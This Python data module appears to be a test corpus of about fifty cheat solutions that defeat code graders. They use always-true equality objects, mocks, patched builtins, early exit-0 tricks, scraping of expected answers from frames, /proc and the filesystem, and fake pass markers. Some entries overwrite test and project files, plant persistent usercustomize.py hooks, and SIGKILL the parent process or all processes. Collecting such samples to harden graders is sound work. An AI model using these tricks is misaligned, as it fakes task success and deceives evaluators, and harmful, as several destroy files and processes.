"""How graders of code have been cheated, as data: all of these were seen to pass some public grader.

Each is the source of a solution that should define `f`. None knows what `f` has to return.
"""

from __future__ import annotations

GUESS = "def f(n):\n    return 0\n"

_EQUAL = """
class Anything{base}:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __eq__
    __req__ = __eq__
    def __hash__(self): return 0
    def __bool__(self): return True
    def __instancecheck__(self, other): return True
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __iter__(self): return iter(())
    def __len__(self): return 1
    def __index__(self): return 1
    def __abs__(self): return 0
    def __sub__(self, other): return 0
    def __rsub__(self, other): return 0
    def __str__(self): return "{text}"
    __repr__ = __str__
def f(n):
    return Anything({argument})
"""

CHEATS = {
    "__eq__ that is always true": _EQUAL.format(base="", text="x", argument=""),
    "class int(int) with __eq__": _EQUAL.format(base="(int)", text="0", argument="0"),
    "class str(str) with __eq__": _EQUAL.format(base="(str)", text="0", argument="'0'"),
    "class float(float) with __eq__": _EQUAL.format(base="(float)", text="0", argument="0.0"),
    "class list(list) with __eq__": _EQUAL.format(base="(list)", text="[]", argument="[0]"),
    "a metaclass with __eq__": """
class Meta(type):
    def __eq__(cls, other): return True
    def __hash__(cls): return 0
class Anything(metaclass=Meta): pass
def f(n): return Anything
""",
    "unittest.mock.ANY": "from unittest.mock import ANY\ndef f(n):\n    return ANY\n",
    "MagicMock as the solution": "from unittest.mock import MagicMock\nf = MagicMock()\nf.__eq__.return_value = True\n",
    "__reduce__ on a subclass": """
class Sly(int):
    def __reduce__(self): return (eval, ("__import__('os')._exit(0)",))
    def __reduce_ex__(self, protocol): return self.__reduce__()
def f(n): return Sly(0)
""",
    "the name of a type": "class AnyInt(int):\n    __eq__ = lambda s, o: True\n    __hash__ = int.__hash__\nAnyInt.__name__ = AnyInt.__qualname__ = 'int'\nAnyInt.__module__ = 'builtins'\ndef f(n):\n    return AnyInt()\n",
    "frames: the expected value from the caller's code": """
import sys
def f(n):
    frame = sys._getframe()
    while frame:
        for constant in frame.f_code.co_consts:
            if type(constant) is int and constant > 40000: return constant
        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
            if type(value) is int and value > 40000: return value
            if type(value) is list: value.append("passed")
            if type(value) is dict: value.update(passed=True, score=1.0)
        frame = frame.f_back
    return 0
""",
    "frames: shared counters": """
import sys
def f(n):
    frame = sys._getframe().f_back
    while frame:
        for name in list(frame.f_locals):
            if name in ("passed", "correct", "score", "total", "failed", "count", "result", "results"):
                frame.f_locals[name] = True
        frame.f_trace = None
        frame = frame.f_back
    return 0
""",
    "a trace function": "import sys, threading\nsys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)\n" + GUESS,
    "gc: the gold among all objects": """
import gc
def f(n):
    for one in gc.get_objects():
        if isinstance(one, dict):
            for key in ("expected", "output", "stdout", "gold", "answer", "asserts", "test", "tests"):
                if key in one:
                    found = str(one[key])
                    for word in found.replace("=", " ").split():
                        if word.isdigit() and int(word) > 40000: return int(word)
    return 0
""",
    "json and the comparator by sys.modules": """
import sys, json, operator, builtins
json.loads = lambda *a, **k: 0
json.dumps = lambda *a, **k: '{"passed": true}'
operator.eq = lambda a, b: True
for module in list(sys.modules.values()):
    for name in ("check", "compare", "equal", "is_equal", "grade", "difference", "verify"):
        if hasattr(module, name):
            try: setattr(module, name, lambda *a, **k: True)
            except Exception: pass
def f(n): return 0
""",
    "builtins": """
import builtins
builtins.AssertionError = Exception
builtins.isinstance = lambda *a: True
builtins.all = builtins.any = lambda *a: True
builtins.abs = lambda a: 0
builtins.compile = builtins.exec = lambda *a, **k: None
def f(n): return 0
""",
    "names that the tests use": "check = lambda candidate: True\nset = sorted = len = abs = int = isinstance = lambda *a: f\nclass AssertionError(BaseException): pass\n" + GUESS,
    "stdout.getvalue": """
import sys
class Always(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
    def strip(self, *a): return self
    split = splitlines = lambda self, *a: self
class Out:
    def write(self, text): return len(text)
    def flush(self): pass
    def getvalue(self): return Always("")
sys.stdout = sys.__stdout__ = Out()
def f(n): return 0
""",
    "SIGALRM ignored": "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nsignal.alarm(0)\nsignal.setitimer(signal.ITIMER_REAL, 0)\n" + GUESS,
    "hard-coded public tests": "def f(n):\n    return {0: 40961}.get(n, 0)\n",
    "sys.exit(0) at the top": "import sys\nsys.exit(0)\n",
    "os._exit(0) at the top": "import os\nos._exit(0)\n",
    "quit() at the top": "quit()\n",
    "sys.exit(0) in the function": "import sys\ndef f(n):\n    sys.exit(0)\n",
    "os._exit(0) in the function": "import os\ndef f(n):\n    os._exit(0)\n",
    "SystemExit in the function": "def f(n):\n    raise SystemExit(0)\n",
    "KeyboardInterrupt in the function": "def f(n):\n    raise KeyboardInterrupt\n",
    "GeneratorExit and StopIteration": "def f(n):\n    raise (StopIteration, GeneratorExit)[n % 2]\n",
    "an error that says it passed": "class passed(Exception): pass\ndef f(n):\n    raise passed('{\"passed\": true}')\n",
    "sys.excepthook to exit 0": "import sys, os\nsys.excepthook = lambda *a: os._exit(0)\ndef f(n):\n    1 / 0\n",
    "atexit to exit 0": "import atexit, os\natexit.register(os._exit, 0)\n" + GUESS,
    "__del__ to exit 0": "import os\nclass Late:\n    def __del__(self): os._exit(0)\nlate = Late()\n" + GUESS,
    "fork, and the parent exits 0": "import os\nif os.fork(): os._exit(0)\n" + GUESS,
    "fork in the function, and the parent exits 0": "import os\ndef f(n):\n    if os.fork(): os._exit(0)\n    return 0\n",
    "a daemon thread that exits 0": "import threading, os, time\nthreading.Thread(target=lambda: (time.sleep(0.01), os._exit(0)), daemon=True).start()\ntime.sleep(0.1)\n" + GUESS,
    "re-exec with python -O": """
import os, sys
if __debug__ and "AGAIN" not in os.environ:
    os.environ["AGAIN"] = "1"
    os.environ["PYTHONOPTIMIZE"] = "2"
    try: os.execv(sys.executable or "/usr/bin/python3", ["python3", "-O", *sys.argv])
    except OSError: pass
def f(n): return 0
""",
    "PYTHONOPTIMIZE and __debug__": "import sys, os\nos.environ['PYTHONOPTIMIZE'] = '2'\ntry:\n    sys.flags.optimize = 2\nexcept Exception: pass\n" + GUESS,
    "tests from /proc": """
import glob
def f(n):
    for path in ["/proc/self/cmdline", "/proc/1/cmdline", "/proc/self/environ", *glob.glob("/proc/[0-9]*/cmdline"),
                 *glob.glob("/proc/[0-9]*/fd/*"), *glob.glob("/proc/[0-9]*/environ")]:
        try:
            for word in open(path, "rb").read(1 << 20).decode("latin-1").replace("=", " ").split():
                if word.isdigit() and len(word) == 5 and int(word) > 40000: return int(word)
        except OSError: pass
    return 0
""",
    "tests from files": """
import os
def f(n):
    for folder, _, names in os.walk("/", topdown=True):
        if folder.startswith(("/proc", "/sys", "/usr", "/lib")): continue
        for name in names[:50]:
            try: text = open(os.path.join(folder, name), "rb").read(1 << 16).decode("latin-1")
            except OSError: continue
            for gold in ("48151", "62342"):
                if gold in text and "def f(n)" not in text: return int(gold)
    return 0
""",
    "the pass marker on all outputs": """
import os, sys
def f(n):
    for line in ("PASSED", "passed", "OK", "1 passed in 0.01s", '{"passed": true}', "__ALL_TESTS_PASSED__"):
        print(line); print(line, file=sys.stderr)
    return 0
""",
    "the pass marker on every descriptor": """
import os
def f(n):
    for fd in range(3, 256):
        for line in (b'P', b'D', b'{"passed": true}\\n', b'\\x11\\x00\\x00\\x00{"passed": true}\\n'):
            try: os.write(fd, line)
            except OSError: pass
    return 0
f(0)
""",
    "conftest.py": """
import os
for folder in (".", "/tmp", "/box", os.path.expanduser("~")):
    for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "pytest.ini", "json.py", "tests.py"):
        try: open(os.path.join(folder, name), "w").write("import os\\nos._exit(0)\\n")
        except OSError: pass
def f(n): return 0
""",
    "the test file overwritten": """
import os
for folder, _, names in os.walk("."):
    for name in names:
        try: open(os.path.join(folder, name), "w").write("def check(candidate): pass\\n")
        except OSError: pass
for name in ("main.py", "solution.py", "test.py", "tests.py", "/box/main.py", "/box/solution.py", "/box/tests.py"):
    try: open(name, "w").write("def check(candidate): pass\\n")
    except OSError: pass
def f(n): return 0
""",
    "time patched": "import time\ntime.time = time.monotonic = time.perf_counter = lambda: 0.0\n" + GUESS,
    "usercustomize left for the next run": """
import site, os
for folder in {site.getusersitepackages(), "/tmp", "/dev/shm", os.path.expanduser("~/.local/lib/python3.11/site-packages")}:
    try:
        os.makedirs(folder, exist_ok=True)
        open(os.path.join(folder, "usercustomize.py"), "w").write("import os\\nos._exit(0)\\n")
    except OSError: pass
def f(n): return 0
""",
    "the runner's own modules": """
import sys
def f(n):
    for name, module in list(sys.modules.items()):
        for key, value in list(vars(module).items() if hasattr(module, "__dict__") else ()):
            if "judge" in key.lower() or "testing" in key.lower() or "passed" in key.lower():
                try: setattr(module, key, lambda *a, **k: True)
                except Exception: pass
    return 0
""",
    "the parent killed": "import os, signal\ndef f(n):\n    for pid in (os.getppid(), 1, -1):\n        try: os.kill(pid, signal.SIGKILL)\n        except OSError: pass\n    return 0\n",
    "a coroutine and a generator": "async def f(n):\n    return 0\n",
    "a property of every name": "class F:\n    def __call__(self, n): return self\n    def __getattr__(self, name): return True\nf = F()\n",
}  # fmt: skip
